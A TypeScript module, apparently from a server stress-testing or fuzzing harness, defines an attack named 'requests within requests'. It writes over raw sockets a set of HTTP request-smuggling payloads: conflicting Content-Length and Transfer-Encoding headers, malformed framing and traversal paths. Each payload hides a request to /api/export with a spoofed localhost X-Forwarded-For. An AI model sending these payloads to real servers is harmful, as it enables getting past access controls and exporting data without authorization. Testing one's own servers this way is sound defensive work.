import { pause } from '../process.ts';
import { type Attack, isOver } from './attack.ts';
import { lines, waited } from './line.ts';

const HIDDEN = 'GET /api/export HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n';
const POST = 'POST /api/guest HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n';

/** Two readers of the same bytes might see two things: where a body ends, what is a line, whose request it is. */
const TWOFOLD: readonly string[] = [
  `${POST}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `${POST}Content-Length: 2\r\nContent-Length: ${2 + HIDDEN.length}\r\n\r\n{}${HIDDEN}`,
  `${POST}Transfer-Encoding: xchunked\r\n\r\n${HIDDEN}`,
  `${POST}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n${HIDDEN}`,
  `${POST}Content-Length: +2\r\n\r\n{}${HIDDEN}`,
  `${POST}Transfer-Encoding: chunked\r\n\r\n${'1;'.padEnd(3_000, 'e')}\r\nx\r\n0\r\n\r\n`,
  `${POST}Transfer-Encoding: chunked\r\n\r\n${'1\r\nx\r\n'.repeat(2_000)}`,
  `GET / HTTP/1.1\nHost: x\nX: y\n\n${HIDDEN}`,
  `GET / HTTP/1.1\r\nHost: x\r\n X: folded\r\n\r\n${HIDDEN}`,
  `GET http://x@y:99999/%00%ff/..;/ HTTP/1.1\r\nHost: x\r\n\r\n`,
  'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc',
  `${POST}Content-Length: 7000\r\n\r\n`.concat('{"name":"'.padEnd(7_000, '['), HIDDEN),
  `GET /${'%2e%2e/'.repeat(900)} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${'::ffff:1.2.3.4%x,'.repeat(60)}\r\n\r\n`,
];

let begun = 0;

export const smuggled: Attack = {
  name: 'requests within requests',
  run: lines(3, async (line, target) => {
    line.resume();
    const gone = waited(line, target);
    for (let n = begun++; !isOver(target) && !line.destroyed; n++) {
      line.write(TWOFOLD[n % TWOFOLD.length] ?? '', 'latin1');
      await Promise.race([gone, pause(80)]);
    }
  }),
};
